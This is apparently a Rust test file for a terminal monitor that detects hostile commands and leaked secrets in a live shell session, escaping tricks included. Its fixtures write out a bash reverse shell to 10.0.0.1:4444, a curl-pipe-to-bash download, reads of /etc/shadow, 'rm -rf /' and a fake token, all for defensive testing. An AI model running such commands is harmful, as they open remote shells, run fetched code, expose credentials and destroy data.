use audit_core::Part;
use serde_json::json;

use super::*;

/// A session at a terminal: what is typed and shown goes to the monitor as windows.
struct Rig {
    monitor: LocalMonitor,
    id: u64,
    offsets: [u64; 4],
}

impl Rig {
    fn new() -> Self {
        Self { monitor: LocalMonitor::with_detector(Detector::embedded()), id: 0, offsets: [0; 4] }
    }

    fn window(&mut self, stream: Stream, text: &str) -> Verdict {
        self.id += 1;
        let offset = self.offsets[stream as usize];
        self.offsets[stream as usize] += text.len() as u64;
        let window = Window {
            id: self.id,
            at: Moment::from_nanos(self.id * 1_000_000_000),
            stream,
            offset,
            bytes: text.as_bytes().to_vec().into(),
        };
        self.monitor.inspect(&window).expect("a verdict")
    }

    fn shows(&mut self, text: &str) -> Verdict {
        self.window(Stream::Tty, text)
    }

    fn types(&mut self, text: &str) -> Verdict {
        self.window(Stream::Input, text)
    }
}

const SHELL: &str = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1";

fn token() -> String {
    format!("ghp_{}", "aB3dE5gH7jK9mN1pQ2sT4vW6xY8zR0aB3dE5")
}

#[test]
fn a_hostile_command_at_a_prompt_is_found_with_its_rule() {
    let verdict = Rig::new().shows(&format!("dev@web1:~$ ls\r\nREADME\r\ndev@web1:~$ {SHELL}\r\n"));
    assert!(verdict.score.value() >= 0.9);
    assert_eq!(verdict.findings[0].rule, "shell.dev-tcp");
    assert_eq!(verdict.findings[0].category, "reverse_shell");
}

#[test]
fn work_is_not_told_of() {
    let mut rig = Rig::new();
    for text in [
        "$ git status\r\nOn branch main\r\n",
        "$ cargo test\r\n100% passed\r\n",
        "$ rm -rf ./build && npm ci\r\n",
    ] {
        let verdict = rig.shows(text);
        assert_eq!((verdict.score, verdict.findings.len()), (Score::ZERO, 0), "{text}");
    }
}

#[test]
fn any_cut_of_the_stream_gives_the_same_verdict() {
    let text = format!(
        "\x1b]0;t\x07\x1b[32mdev@web1\x1b[0m:~$ {}\r\nTOKEN={}\r\n",
        SHELL.replace("tcp", "t\x08t\x1b[0mcp"),
        token()
    );
    let whole = Rig::new().shows(&text);
    assert!(whole.score.value() >= 0.9);
    for size in 1..40 {
        let mut rig = Rig::new();
        let (mut score, mut secrets) = (0f32, Vec::new());
        for chunk in text.as_bytes().chunks(size) {
            let verdict = rig.shows(std::str::from_utf8(chunk).expect("plain text"));
            score = score.max(verdict.score.value());
            secrets.extend(verdict.secrets);
        }
        // while it is being written a secret is told again when it grows; the last tells it whole
        secrets.retain(|s| {
            !whole.secrets.contains(s)
                && !whole.secrets.iter().any(|w| w.start <= s.start && s.end <= w.end)
        });
        assert_eq!((score, secrets), (whole.score.value(), Vec::new()), "chunks of {size}");
    }
}

#[test]
fn a_typed_line_is_judged_when_enter_is_pressed() {
    let mut rig = Rig::new();
    rig.shows("odd prompt: ");
    assert_eq!(rig.types(SHELL).score, Score::ZERO);
    assert!(rig.types("\r").score.value() >= 0.9);
}

#[test]
fn an_echo_is_not_judged_a_second_time() {
    let mut rig = Rig::new();
    rig.shows("$ ");
    assert!(rig.types(&format!("{SHELL}\r")).score.value() >= 0.9);
    assert_eq!(rig.shows(&format!("{SHELL}\r\n")).score, Score::ZERO);
}

#[test]
fn a_command_behind_an_unknown_prompt_is_told_by_where_enter_was_pressed() {
    let mut rig = Rig::new();
    rig.shows("weird~~>");
    // completion: what is typed is not what stands on the line
    rig.types("cat /etc/sha\t");
    rig.shows("cat /etc/shadow ");
    rig.types("\r");
    assert!(rig.shows("\r\n").score.value() >= 0.7);
}

#[test]
fn a_pasted_block_is_judged_line_by_line() {
    let mut rig = Rig::new();
    rig.shows("$ ");
    let verdict = rig.types(&format!("\x1b[200~ls\n{SHELL}\n\x1b[201~"));
    assert!(verdict.score.value() >= 0.9);
}

#[test]
fn a_command_over_several_rows_is_judged_whole() {
    let mut rig = Rig::new();
    assert!(rig.shows("$ curl -s http://198.51.100.1/x \\\r\n").score.value() < 0.7);
    assert!(rig.shows("> | bash\r\n").score.value() >= 0.7);
}

#[test]
fn output_that_talks_about_attacks_does_not_block() {
    let mut rig = Rig::new();
    let verdict = rig.shows(&format!("$ cat notes\r\nA reverse shell is {SHELL} they say\r\n"));
    assert!(verdict.score.value() < 0.7, "{verdict:?}");
}

#[test]
fn a_document_that_shows_prompts_does_not_block_while_somebody_types() {
    let mut rig = Rig::new();
    rig.shows("dev@web1:~$ ");
    rig.types("cat HOWTO\r");
    let verdict = rig.shows(&format!("cat HOWTO\r\n$ {SHELL}\r\nroot@h:~# rm -rf /\r\n"));
    assert!(verdict.score.value() < 0.7, "{verdict:?}");
}

#[test]
fn a_command_taken_from_the_history_is_judged() {
    let mut rig = Rig::new();
    rig.shows("dev@web1:~$ ");
    rig.types("\x1b[A");
    rig.shows("rm -rf /home");
    rig.types("\r");
    assert!(rig.shows("\r\n").score.value() >= 0.7);
}

#[test]
fn a_full_screen_program_shows_no_commands() {
    let mut rig = Rig::new();
    rig.shows("\x1b[?1049h");
    assert_eq!(rig.shows("$ rm -rf /home\r\n").score, Score::ZERO);
    rig.shows("\x1b[?1049l");
    assert!(rig.shows("$ rm -rf /home\r\n").score.value() >= 0.7);
}

#[test]
fn pretending_to_be_a_full_screen_program_hides_no_typed_shell() {
    let mut rig = Rig::new();
    rig.shows("\x1b[?1049h");
    assert!(rig.types(&format!("{SHELL}\r")).score.value() >= 0.7);
}

#[test]
fn a_whole_secret_is_reported_once_with_its_place() {
    let mut rig = Rig::new();
    let (head, tail) = (&token()[..20], &token()[20..]);
    assert_eq!(rig.shows(&format!("TOKEN={}", &head[..8])).secrets, []);
    let verdict = rig.shows(&format!("{}{tail}", &head[8..]));
    assert_eq!(verdict.secrets, [Span { stream: Stream::Tty, start: 6, end: 46 }]);
    assert_eq!(verdict.findings[0].rule, "secret.shown");
    assert!(!format!("{verdict:?}").contains(&token()[4..]));
    assert_eq!(rig.shows("\r\n$ ").secrets, []);
}

#[test]
fn standard_error_has_offsets_of_its_own() {
    let mut rig = Rig::new();
    rig.window(Stream::Stdout, "some output\n");
    let verdict = rig.window(Stream::Stderr, &format!("TOKEN={}\n", token()));
    assert_eq!(verdict.secrets, [Span { stream: Stream::Stderr, start: 6, end: 46 }]);
}

#[test]
fn a_gap_in_the_stream_is_survived() {
    let mut rig = Rig::new();
    rig.shows("$ rm -rf /ho");
    rig.offsets[Stream::Tty as usize] += 1000;
    let verdict = rig.shows(&format!("$ echo {}\r\n", token()));
    assert_eq!(verdict.secrets, [Span { stream: Stream::Tty, start: 1019, end: 1059 }]);
}

#[test]
fn hidden_text_is_a_finding() {
    let verdict = Rig::new().shows("\x1b[8msecretly\x1b[0m\r\n");
    assert_eq!(verdict.findings[0].rule, "display.hidden");
}

#[test]
fn judging_asks_people_and_refuses_only_what_is_set() {
    let request =
        |id, command: &str| Request { id, at: Moment::from_nanos(id), command: command.into() };
    let mut rig = Rig::new();
    assert!(matches!(rig.monitor.judge(&request(1, "ls")), Ok(Ruling::Allow)));
    assert!(matches!(rig.monitor.judge(&request(2, SHELL)), Ok(Ruling::Ask(_))));
    rig.monitor.deny = 0.9;
    assert!(matches!(rig.monitor.judge(&request(3, SHELL)), Ok(Ruling::Deny(_))));
    assert!(matches!(rig.monitor.judge(&request(4, "ls")), Ok(Ruling::Allow)));
}

#[test]
fn settings_may_be_left_out_but_not_misspelt() {
    let read = |value| Part::new(NAME, value).settings::<Settings>();
    assert!(read(json!({})).is_ok());
    assert!(
        read(json!({ "secret_score": 0.9, "analyser": { "url": "ws://localhost:57575/ai" } }))
            .is_ok()
    );
    assert!(read(json!({ "rules": "x" })).is_err());
}
